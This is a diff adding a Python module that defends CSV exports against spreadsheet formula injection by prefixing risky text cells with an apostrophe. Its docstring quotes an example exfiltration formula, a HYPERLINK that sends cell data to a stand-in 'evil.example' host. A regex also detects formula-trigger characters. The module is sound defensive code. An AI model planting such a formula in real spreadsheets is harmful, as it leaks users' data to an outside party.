@@ -1,0 +1,55 @@
+"""CSV cells a spreadsheet opens as data, never as a formula.
+
+Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or
+``@`` (and, after a TAB or CR, whatever follows) as a formula: a commitment named
+``=HYPERLINK("https://evil.example/?"&A1,"x")`` would send the sheet's data away when
+someone opens hdr's CSV. Following OWASP, such a *text* cell gets a leading ``'``, which
+spreadsheets take for "this is text" and show without running anything.
+
+What is text is decided by the value's Python type, never by looking at the text: a
+number (``int``, ``float``, ``Decimal``) stays a plain number even when negative
+(``-16.7``); a figure that must keep its decimals goes through ``fixed``. A text that
+already starts with ``'`` before one of those characters gets one more, so
+``csv_text_back`` always returns exactly what the user wrote (``hdr importar`` reads
+``hdr exportar``'s CSV back through it). JSON is never touched: it is not run.
+"""
+
+from __future__ import annotations
+
+import re
+from decimal import Decimal
+
+from hojaderuta.text.safetext import plain
+
+# Characters that make a spreadsheet run a cell (OWASP CSV injection), after any
+# apostrophes hdr or the user put first.
+_RUNS = re.compile("'*[=+\\-@\t\r]")
+_NEUTRALISED = re.compile("'+[=+\\-@\t\r]")
+
+
+def csv_text(text: str) -> str:
+    """A text cell as a spreadsheet must read it: inert, and writable as UTF-8."""
+    text = plain(text)
+    return "'" + text if _RUNS.match(text) else text
+
+
+def csv_cell(value: object) -> object:
+    """One cell: text is neutralised (``csv_text``); numbers and the rest stay as they are."""
+    if isinstance(value, str):
+        return csv_text(value)
+    return value
+
+
+def csv_row(values: list[object]) -> list[object]:
+    """A CSV row with every text cell neutralised (see ``csv_cell``)."""
+    return [csv_cell(v) for v in values]
+
+
+def csv_text_back(text: str) -> str:
+    """What the user wrote, from a cell ``csv_text`` wrote (its inverse)."""
+    return text[1:] if _NEUTRALISED.match(text) else text
+
+
+def fixed(value: float, places: int = 2) -> Decimal:
+    """A number with exactly ``places`` decimals (``12.50``), written as a number in CSV."""
+    return Decimal(f"{value:.{places}f}")
